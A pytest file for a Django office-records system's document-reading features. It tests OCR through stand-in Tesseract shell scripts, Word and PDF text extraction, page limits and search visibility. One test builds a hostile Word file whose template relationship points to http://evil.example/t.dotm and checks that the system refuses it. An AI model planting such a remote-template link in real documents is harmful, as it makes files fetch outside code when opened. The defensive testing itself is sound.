"""Words of files: text layers, Word, scans by the program where it is installed; said plainly where it is not."""

import io
import shutil
import stat
from pathlib import Path
from typing import Any

import pypdfium2
import pytest
from django.test import Client
from django.urls import reverse
from docx import Document
from PIL import Image

from tests.incoming import scans
from tests.incoming.conftest import THURSDAY, received
from tests.signing.builders import plain_pdf
from truongso.core.upload_checks import DOCX
from truongso.foundation.evidence import store
from truongso.foundation.evidence.contents import keep
from truongso.governance.casefiles import reading
from truongso.governance.casefiles.models import FileText, TextState
from truongso.governance.casefiles.tasks import read_one
from truongso.governance.incoming import actions
from truongso.governance.incoming.models import IncomingDocument
from truongso.governance.incoming.views.documents import search_documents

SCAN = io.BytesIO()
Image.new("RGB", (300, 400), "white").save(SCAN, "PNG")


@pytest.fixture
def program(tmp_path: Path, settings: Any) -> Any:
    """Return a function that installs a stand-in for Tesseract with a body of shell."""

    def install(body: str) -> None:
        path = tmp_path / "tesseract"
        path.write_text(f"#!/bin/sh\n{body}\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
        settings.OCR_PROGRAM = str(path)

    return install


def read_all() -> list[FileText]:
    """Do what the worker does with all that waits."""
    return [read_one(one) for one in FileText.objects.to_read(scans=True).select_related("blob")]


def text_of(document: IncomingDocument) -> FileText:
    return document.files.get().blob.file_text


def found(words: str) -> int:
    return search_documents(IncomingDocument.objects.all(), words).count()


def test_a_scan_is_read_and_found(office: Any, program: Any) -> None:
    program(
        '[ "$1 $2 $3 $4" = "stdin stdout -l vie" ] || exit 9\ncat > /dev/null\necho "Thông báo về việc nghỉ học do bão"'
    )
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    assert text_of(document).state == TextState.WAITING
    assert found("nghi hoc do bao") == 0
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.text) == (TextState.READ, "Thông báo về việc nghỉ học do bão")
    assert found("nghi hoc do bao") == 1


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("exit 1", "không nói lý do"),
        ("echo Error opening data file vie >&2; exit 1", "Error opening data file vie"),
        ("sleep 5", "quá 1 giây một trang"),
        ("head -c 100000000 /dev/zero > out.bin || { echo stopped >&2; exit 1; }", "stopped"),
    ],
    ids=["fails", "tells", "hangs", "writes"],
)
def test_a_program_that_fails_or_hangs_harms_nothing(
    office: Any, lan: Client, program: Any, settings: Any, body: str, reason: str
) -> None:
    settings.OCR_SECONDS = 1
    program(body)
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.text) == (TextState.FAILED, "")
    assert kept.reason.startswith("chương trình nhận dạng chữ dừng (")
    assert kept.reason.endswith(f"{reason})")
    page = lan.get(document.get_absolute_url()).content.decode()
    assert f"Không đọc được chữ để tìm kiếm: {kept.reason}." in page
    assert found("1234/SGDDT-VP") == 1


def test_without_the_program_the_page_says_so(office: Any, lan: Client, settings: Any) -> None:
    settings.OCR_PROGRAM = "no-such-program"
    assert "Máy chủ chưa cài Tesseract" in lan.get(reverse("incoming:receive")).content.decode()
    document = received(office, files=[("anh.png", SCAN.getvalue())])
    read_all()
    page = lan.get(document.get_absolute_url()).content.decode()
    assert "Máy chủ chưa cài Tesseract nên chưa nhận dạng được chữ." in page
    again = lan.post(reverse("incoming:read_again", args=[document.uid]), follow=True).content.decode()
    assert "Máy chủ chưa cài Tesseract (gói tesseract-ocr và tesseract-ocr-vie)." in again


def test_word_and_pdf_are_read_without_the_program(office: Any, settings: Any) -> None:
    settings.OCR_PROGRAM = ""
    word = io.BytesIO()
    made = Document()
    made.add_paragraph("Biên bản làm việc của đoàn kiểm tra")
    made.add_table(1, 2).cell(0, 1).text = "Ô hai trong bảng"
    made.save(word)
    received(office, files=[("bb.docx", word.getvalue()), ("cv.pdf", plain_pdf("Đăng ký thi đua"))])
    assert [one.state for one in read_all()] == [TextState.TEXT, TextState.TEXT]
    assert found("doan kiem tra") == found("o hai trong bang") == found("dang ky thi dua") == 1


def test_a_long_scan_is_read_up_to_the_limit(office: Any, program: Any, settings: Any) -> None:
    settings.OCR_PAGES = 2
    program("cat > /dev/null; echo trang")
    pages = io.BytesIO()
    sheet = Image.new("L", (200, 300), 255)
    sheet.save(pages, "PDF", save_all=True, append_images=[sheet, sheet])
    document = received(office, files=[("quet.pdf", pages.getvalue())])
    read_all()
    kept = text_of(document)
    assert (kept.text, kept.pages_read, kept.page_count) == ("trang trang", 2, 3)
    assert kept.sentence == "Tìm kiếm chỉ biết chữ của 2 trang đầu trên 3 trang."
    assert reading.program() is not None


def test_a_stamp_on_a_scan_does_not_hide_the_scan(office: Any, program: Any) -> None:
    program("cat > /dev/null; echo Trang quét thứ nhất")
    scan = io.BytesIO()
    Image.new("L", (600, 850), 255).save(scan, "PDF")
    document = received(office, files=[("quet.pdf", stamped(scan.getvalue()))])
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.pages_read) == (TextState.READ, 2)
    assert found("dau so cong van den") == found("trang quet thu nhat") == 1


def stamped(scan: bytes) -> bytes:
    """Return a scan with a page before it that has a text layer alone."""
    both = pypdfium2.PdfDocument.new()
    for content in (plain_pdf("Dấu số công văn đến"), scan):
        both.import_pages(pypdfium2.PdfDocument(content))
    out = io.BytesIO()
    both.save(out)
    return out.getvalue()


def test_two_thousand_pages_are_read_up_to_the_limit_and_the_page_says_so(
    office: Any, lan: Client, settings: Any
) -> None:
    settings.OCR_PROGRAM = ""
    one, many, out = pypdfium2.PdfDocument(plain_pdf("Phụ lục rất dài")), pypdfium2.PdfDocument.new(), io.BytesIO()
    for _ in range(2000):
        many.import_pages(one)
    many.save(out)
    document = received(office, files=[("dai.pdf", out.getvalue())])
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.pages_read, kept.page_count, kept.is_whole) == (TextState.TEXT, 150, 2000, False)
    assert found("phu luc rat dai") == 1
    page = lan.get(document.get_absolute_url()).content.decode()
    assert "Tìm kiếm chỉ biết chữ của 150 trang đầu trên 2.000 trang." in page


def test_a_broken_pdf_leaves_the_document_whole_and_says_why(office: Any, lan: Client, settings: Any) -> None:
    settings.OCR_PROGRAM = ""
    content = plain_pdf("Trang sẽ hỏng")
    document = received(office, files=[("hong.pdf", content)])
    lies = store.path_of(document.files.get().sha256)
    lies.write_bytes(content[:200])
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.reason) == (TextState.FAILED, "tệp lưu trong kho đã hỏng hoặc thiếu")
    assert (found("trang se hong"), found("huong dan to chuc thi")) == (0, 1)
    assert document.files.get().blob.size == len(content)
    page = lan.get(document.get_absolute_url()).content.decode()
    assert "Không đọc được chữ để tìm kiếm: tệp lưu trong kho đã hỏng hoặc thiếu." in page


@pytest.mark.parametrize(
    ("content_type", "reason"),
    [("application/pdf", "tệp hỏng hoặc quá phức tạp"), (DOCX, "tệp hỏng hoặc quá phức tạp"), ("image/png", "ảnh không mở được")],
)  # fmt: skip
def test_what_cannot_be_read_is_told_by_its_kind(office: Any, program: Any, content_type: str, reason: str) -> None:
    program("cat > /dev/null; echo chữ")
    blob = keep(b"%PDF-1.7 \x00\xff khong phai " + content_type.encode(), content_type)
    found_now = reading.read(blob.pk, content_type)
    assert (found_now.state, found_now.text, found_now.reason) == (TextState.FAILED, "", reason)


def test_a_word_that_stands_only_in_the_file_finds_the_letter_for_who_may_see_it(
    office: Any, lan: Client, an: Client, settings: Any
) -> None:
    settings.OCR_PROGRAM = ""
    document = received(office, files=[("cv.pdf", plain_pdf("Kinh phí thuê xe đi Điện Biên"))])
    read_all()
    asked = {"q": "thue xe dien bien"}
    assert document.get_absolute_url() in lan.get(reverse("incoming:documents"), asked).content.decode()
    page = an.get(reverse("incoming:documents"), asked)
    if page.status_code == 200:
        assert document.get_absolute_url() not in page.content.decode()
    for client, sees in ((lan, True), (an, False)):
        answer = client.get(reverse("dashboards:search"), asked).content.decode()
        assert (document.get_absolute_url() in answer, "1234/SGDĐT-VP" in answer) == (sees, sees)


def test_the_same_content_is_read_once_for_all_who_hold_it(office: Any, program: Any) -> None:
    program("cat > /dev/null; echo chữ trong ảnh")
    first = received(office, files=[("anh.png", SCAN.getvalue())])
    second = received(office, notation="99/SGDĐT", files=[("anh-2.png", SCAN.getvalue())])
    assert len(read_all()) == 1
    assert read_all() == []
    assert found("chu trong anh") == 2
    assert text_of(first) == text_of(second)
    third = received(office, notation="100/SGDĐT", files=[("anh-3.png", SCAN.getvalue())])
    assert read_all() == []
    assert found("chu trong anh") == 3
    actions.tell_apart(third, reason="Phụ lục dùng chung", by=office.lan)
    actions.register(third, on=THURSDAY, by=office.lan)
    assert found("chu trong anh") == 3


def test_a_word_file_with_a_template_from_outside_is_refused_or_noted(office: Any) -> None:
    import zipfile

    word = io.BytesIO()
    Document().save(word)
    harmful = io.BytesIO()
    with zipfile.ZipFile(word) as source, zipfile.ZipFile(harmful, "w") as target:
        for entry in source.infolist():
            target.writestr(entry.filename, source.read(entry))
        target.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    document = received(office, channel="email", external_id="<x@y>", files=[("mau.docx", harmful.getvalue())])
    file = document.files.get()
    assert file.blob is None
    assert file.strange == (
        "Không nhận «mau.docx»: tệp tự tải nội dung từ địa chỉ ngoài khi mở, hãy xuất ra PDF rồi nộp."
    )


@pytest.mark.slow
@pytest.mark.once
@pytest.mark.skipif(
    shutil.which("tesseract") is None, reason="Tesseract (tesseract-ocr, tesseract-ocr-vie) is not here"
)
def test_the_real_program_reads_a_turned_and_noisy_vietnamese_letter(office: Any) -> None:
    document = received(office, files=[("quet.pdf", scans.scanned(200, degrees=-1.5, noise=25))])
    read_all()
    kept = text_of(document)
    assert (kept.state, kept.reason, kept.is_whole) == (TextState.READ, "", True)
    assert scans.share_right(kept.text) > 0.98  # 0.9986 with Tesseract 5.3.0
    assert found("niem phong van chuyen de") == found("Nguyễn Thị Thúy Hường") == 1
